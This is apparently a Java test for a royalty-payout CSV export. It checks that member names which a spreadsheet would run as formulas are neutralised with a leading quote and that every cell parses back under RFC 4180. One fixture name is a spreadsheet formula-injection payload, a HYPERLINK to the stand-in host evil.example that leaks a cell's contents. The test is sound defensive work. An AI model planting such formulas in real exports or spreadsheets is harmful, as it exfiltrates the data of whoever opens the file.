package org.cmoportal.period;

import static org.assertj.core.api.Assertions.assertThat;
import static org.hamcrest.Matchers.containsString;

import java.sql.Connection;
import java.sql.SQLException;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;

import org.cmoportal.csv.Rfc4180;
import org.cmoportal.testsupport.Filings;
import org.cmoportal.testsupport.OwnerSql;
import org.junit.jupiter.api.Test;

import io.quarkus.test.junit.QuarkusTest;

/**
 * The payout file goes to a bank, and often through a spreadsheet first: a member's name that a spreadsheet would
 * run as a formula must arrive as text, and every name must come back whole through an RFC 4180 reader.
 */
@QuarkusTest
class PayoutFileTest {

    static final String T = "payout-csv";

    @Test
    void namesThatASpreadsheetWouldRunAreNeutralisedAndEveryCellIsQuotedAsTheRfcSays() throws SQLException {
        // ref -> name as stored; names are written by the owner as a legacy row would hold them (the tab is refused at input)
        Map<String, String> names = new LinkedHashMap<>();
        names.put("m1", "=HYPERLINK(\"http://evil.example/?\"&A1,\"Claim\")");
        names.put("m2", "+1");
        names.put("m3", "-2");
        names.put("m4", "@x");
        names.put("m5", "\tcmd");
        names.put("m6", "Okafor, \"Bob\"");
        names.put("m7", "Zoë Martin");
        Cmo cmo = Cmo.create(T, List.copyOf(names.keySet()));
        try (Connection c = OwnerSql.connect()) {
            for (var e : names.entrySet()) {
                OwnerSql.update(c, "UPDATE member SET name = ? WHERE tenant_id = ? AND ref = ?", e.getValue(), T, e.getKey());
            }
        }
        String p = "2026-Q3";
        cmo.closedWithAcceptedFiling(p, new FilingFixture.Spec("m-csv", 125_000_000, 40_000_000, 10_000_000, "0.30",
                Map.of("news", "1"), names.keySet().stream().map(ref -> new Filings.Line("news", ref, 1)).toList()));
        long run = cmo.post("nadia", p, "calculate").then().statusCode(200).extract().jsonPath().getLong("id");
        cmo.postJson("noah", "/periods/" + p + "/approve", Map.of("runId", run)).then().statusCode(200);
        cmo.post("nadia", p, "distribute").then().statusCode(200);

        String csv = cmo.api("noah").accept("text/csv").get("/periods/" + p + "/payout-file").then().statusCode(200)
                .header("Content-Type", containsString("text/csv")).extract().asString();

        List<List<String>> records = Rfc4180.parse(csv);
        assertThat(records.get(0)).containsExactly("member_ref", "name", "amount", "currency");
        Map<String, String> written = new LinkedHashMap<>();
        records.subList(1, records.size()).forEach(r -> written.put(r.get(0), r.get(1)));
        assertThat(written).containsExactly(
                Map.entry("m1", "'=HYPERLINK(\"http://evil.example/?\"&A1,\"Claim\")"),
                Map.entry("m2", "'+1"), Map.entry("m3", "'-2"), Map.entry("m4", "'@x"), Map.entry("m5", "'\tcmd"),
                Map.entry("m6", "Okafor, \"Bob\""), Map.entry("m7", "Zoë Martin"));
        assertThat(records.subList(1, records.size())).allSatisfy(r -> assertThat(r).hasSize(4).element(3).isEqualTo("USD"));
    }
}
